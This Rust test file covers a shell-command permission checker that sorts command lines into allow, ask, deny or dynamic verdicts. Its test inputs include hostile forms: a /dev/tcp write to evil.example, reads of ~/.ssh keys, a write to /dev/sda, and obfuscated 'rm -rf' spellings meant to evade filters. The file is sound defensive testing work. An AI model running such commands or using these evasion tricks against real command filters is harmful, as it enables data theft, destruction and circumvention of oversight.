//! What is judged: accesses, carriers, static and dynamic words.

use super::support::{Machine, at, rules};
use super::{ALLOW, ASK, DENY, DYNAMIC, NONE, OPEN, bullet, on};

#[test]
fn the_strictest_verdict_wins() {
    let policy = rules(&["*"], &["git push"], &["rm"]);
    bullet(
        &policy,
        &[
            ("ls; git push", ASK),
            ("git push; rm x", DENY),
            ("rm x; ls", DENY),
        ],
        &[("ls; cat x", ALLOW)],
    );
}

#[test]
fn nothing_matched_asks() {
    bullet(
        &rules(&["ls"], &[], &[]),
        &[("cat x", OPEN), ("ls; cat x", OPEN)],
        &[("ls", ALLOW)],
    );
}

#[test]
fn a_line_that_accesses_nothing_is_allowed() {
    let policy = rules(&[], &[], &[]);
    bullet(
        &policy,
        &[("# x", NONE), ("[[ a == b ]]", NONE), ("x=1", NONE)],
        &[("x", OPEN), ("[ a ]", OPEN)],
    );
}

#[test]
fn sub_commands_are_seen_wherever_the_shell_starts_something() {
    let policy = rules(&["a", "echo", "cat"], &[], &["rm"]);
    let hidden = [
        "a | rm x",
        "a && rm x",
        "a & rm x",
        "{ rm x; }",
        "(rm x)",
        "for i in 1; do rm x; done",
        "while rm x; do a; done",
        "f() { rm x; }",
        "a $(rm x)",
        "a \"`rm x`\"",
        "a <(rm x)",
        "cat <<E\n$(rm x)\nE\n",
        "a $(( $(rm x) ))",
        "case $(rm x) in b) a;; esac",
        "[[ -n $(rm x) ]]",
        "if a; then rm x; fi",
        "x=$(rm x)",
        "a > \"$(rm x)\"",
    ];
    let covers: Vec<(&str, &str)> = hidden.iter().map(|line| (*line, DENY)).collect();
    bullet(
        &policy,
        &covers,
        &[
            ("a '$(rm x)'", ALLOW),
            ("a # rm x", ALLOW),
            ("cat <<'E'\n$(rm x)\nE\n", ALLOW),
        ],
    );
}

#[test]
fn write() {
    let policy = rules(&["echo", "write(./out/**)"], &[], &["write(./keep)"]);
    bullet(
        &policy,
        &[
            ("echo x > out/a", ALLOW),
            ("echo x >> keep", DENY),
            ("tee keep", DENY),
            ("echo x > ./sub/../keep", DENY),
        ],
        &[
            ("echo x > a", OPEN),
            ("echo x < keep", ALLOW),
            ("echo x", ALLOW),
        ],
    );
}

#[test]
fn read() {
    let policy = rules(&["cat", "echo"], &[], &["read(./secret)"]);
    bullet(
        &policy,
        &[
            ("cat < secret", DENY),
            ("cat secret", DENY),
            ("echo $(< secret)", DENY),
        ],
        &[("cat < other", ALLOW), ("echo secret", ALLOW)],
    );
}

#[test]
fn env() {
    let policy = rules(&["a", "export", "env", "env(OK)"], &[], &["env(BAD)"]);
    bullet(
        &policy,
        &[
            ("OK=1 a", ALLOW),
            ("BAD=1 a", DENY),
            ("export BAD=1", DENY),
            ("env BAD=1 a", DENY),
            ("NEW=1 a", OPEN),
            ("HOME=/x", OPEN),
        ],
        &[("a", ALLOW), ("BAD=1", NONE), ("NEW=1", NONE)],
    );
}

#[test]
fn network() {
    let policy = rules(&["echo"], &[], &["network(evil.example)"]);
    bullet(
        &policy,
        &[("echo x > /dev/tcp/evil.example/80", DENY)],
        &[
            ("echo x > /dev/tcp/good.example/80", "ask opaque"),
            ("echo evil.example", ALLOW),
        ],
    );
}

#[test]
fn a_rule_covers_neither_redirection_nor_assignment_nor_further_program() {
    let policy = rules(&["a", "xargs", "find", "rg"], &[], &[]);
    bullet(
        &policy,
        &[
            ("a > f", OPEN),
            ("X=1 a", OPEN),
            ("xargs b", OPEN),
            ("find . -exec b \\;", OPEN),
        ],
        &[
            ("a f", ALLOW),
            ("xargs a", ALLOW),
            ("find . -exec a \\;", ALLOW),
        ],
    );
}

#[test]
fn files_of_a_command_count_for_deny_and_ask() {
    let policy = rules(
        &["cp", "dd", "sort"],
        &["write(./ask/**)"],
        &["write(./deny/**)"],
    );
    bullet(
        &policy,
        &[
            ("sort -o deny/x a", DENY),
            ("dd of=deny/x", DENY),
            ("cp a ask/x", ASK),
        ],
        &[
            ("sort -o x a", ALLOW),
            ("dd of=x", ALLOW),
            ("cp ask/x a", ALLOW),
        ],
    );
}

#[test]
fn a_carrier_and_what_it_carries_need_a_rule_each() {
    let policy = rules(&["env", "a", "timeout"], &[], &["rm"]);
    bullet(
        &policy,
        &[
            ("env b", OPEN),
            ("nice a", OPEN),
            ("env rm x", DENY),
            ("timeout 5 env rm x", DENY),
            ("sh -c 'rm x'", DENY),
        ],
        &[("env a", ALLOW), ("timeout 5 a", ALLOW)],
    );
}

#[test]
fn a_carrier_of_what_cannot_be_known_is_dynamic() {
    let policy = rules(&["*"], &[], &[]);
    bullet(
        &policy,
        &[
            ("a | sh", DYNAMIC),
            ("xargs sh -c \"$X\"", DYNAMIC),
            ("bash -c \"$X\"", DYNAMIC),
        ],
        &[("bash -c 'a b'", ALLOW), ("a | cat", ALLOW)],
    );
}

#[test]
fn remote_and_package_runners_are_covered_where_the_rule_spells_it_out() {
    let policy = rules(&["ssh host ls", "npx tsc"], &[], &["rm"]);
    bullet(
        &policy,
        &[("ssh host ls", ALLOW), ("npx tsc", ALLOW)],
        &[
            ("ssh host cat x", OPEN),
            ("npx other", OPEN),
            ("ssh host rm x", DENY),
        ],
    );
}

#[test]
fn open_streams_and_copies_of_descriptors_are_no_access() {
    let policy = rules(&["a"], &[], &[]);
    bullet(
        &policy,
        &[
            ("a > /dev/null 2>&1", ALLOW),
            ("a < /dev/null", ALLOW),
            ("a 2> /dev/stderr", ALLOW),
            ("a > /dev/tty", ALLOW),
        ],
        &[("a > /dev/sda", DENY), ("a > null", OPEN)],
    );
}

#[test]
fn quotes_escapes_and_braces_are_static() {
    let policy = rules(&["*"], &[], &["rm -rf"]);
    bullet(
        &policy,
        &[
            ("r''m -r'f' x", DENY),
            ("\\rm -rf x", DENY),
            ("$'\\x72m' -rf x", DENY),
            ("{rm,-rf,x}", DENY),
            ("\"rm\" \"-rf\"", DENY),
        ],
        &[("echo 'rm -rf x'", ALLOW), ("echo rm\\ -rf", ALLOW)],
    );
}

#[test]
fn home_and_folder_are_static() {
    let policy = rules(&["cat"], &[], &["read(~/.ssh/**)", "read(/ws/keep)"]);
    bullet(
        &policy,
        &[
            ("cat ~/.ssh/id", DENY),
            ("cat $HOME/.ssh/id", DENY),
            ("cat \"$PWD\"/keep", DENY),
            ("cd ~/.ssh && cat id", DENY),
            ("cd && cat .ssh/id", DENY),
        ],
        &[
            ("cat ~/x", ALLOW),
            ("cat $PWD/x", ALLOW),
            ("cat '~/.ssh/id'", ALLOW),
        ],
    );
}

#[test]
fn variables_with_a_literal_value_are_static() {
    let policy = rules(&["*"], &[], &["rm /ws/keep"]);
    bullet(
        &policy,
        &[
            ("D=/ws/keep; rm $D", DENY),
            ("D=/ws; rm \"$D/keep\"", DENY),
            ("P=rm; $P /ws/keep", DENY),
            ("export D=/ws/keep; rm $D", DENY),
            ("x=/ws; y=$x/keep; rm $y", DENY),
        ],
        &[
            ("D=/ws/other; rm $D", ALLOW),
            ("D=/ws/keep; D=/ws/other; rm $D", ALLOW),
            ("D=/ws/keep; (D=x); rm x", ALLOW),
        ],
    );
    // What may have changed is not known.
    bullet(
        &policy,
        &[
            ("D=/ws/other; read D; rm $D", ASK),
            ("a && D=/ws/other; rm $D", ASK),
            ("D=/ws/other rm $D", ASK),
        ],
        &[("D=/ws/other; rm $D", ALLOW)],
    );
}

#[test]
fn loop_variables_over_literals_are_static() {
    let policy = rules(&["rm", "a"], &[], &["rm keep"]);
    bullet(
        &policy,
        &[
            ("for f in a keep; do rm $f; done", DENY),
            ("for f in keep; do a; rm \"$f\"; done", DENY),
        ],
        &[
            ("for f in a b; do rm $f; done", ALLOW),
            ("for f in keep; do a $f; done", ALLOW),
        ],
    );
}

#[test]
fn a_dynamic_program_asks() {
    bullet(
        &rules(&["*"], &[], &[]),
        &[("$x a", DYNAMIC), ("$(b) a", DYNAMIC)],
        &[("a $x", ALLOW)],
    );
}

#[test]
fn a_dynamic_operand_spoils_only_what_it_could_turn() {
    let policy = rules(&["tar", "cat"], &[], &[]);
    bullet(
        &policy,
        &[("tar cf x *", DYNAMIC), ("tar cf x $y", DYNAMIC)],
        &[("cat *", ALLOW), ("cat $y", ALLOW), ("tar cf x ./*", ALLOW)],
    );
}

#[test]
fn a_name_that_the_line_takes_voids_allow_rules() {
    let policy = rules(&["*"], &[], &[]);
    bullet(
        &policy,
        &[
            ("ls() { a; }; ls", "ask opaque"),
            ("alias ls=a; ls", "ask opaque"),
            ("hash -p ./x ls; ls", "ask opaque"),
        ],
        &[("ls", ALLOW)],
    );
}

#[test]
fn a_program_that_is_not_found_asks() {
    bullet(
        &rules(&["*"], &[], &[]),
        &[("nowhere", "ask program-not-found")],
        &[("somewhere", ALLOW)],
    );
}

#[test]
fn a_folder_is_followed_for_relative_operands() {
    let policy = rules(&["*"], &[], &["read(/ws/sub/keep)"]);
    let machine = Machine::default().link("/ws/sub", "/ws/sub");
    assert_eq!(machine.facts.cwd, at("/ws"));
    on(
        &machine,
        &policy,
        &[
            ("cd sub && cat keep", DENY),
            ("pushd sub && cat keep", DENY),
            ("cd sub && cd / && cd - && cat keep", DENY),
            ("D=sub; cd $D && cat keep", DENY),
            ("env -C sub cat keep", DENY),
        ],
        &[
            ("cat keep", ALLOW),
            ("(cd sub); cat keep", ALLOW),
            ("pushd sub && popd && cat keep", ALLOW),
        ],
    );
}
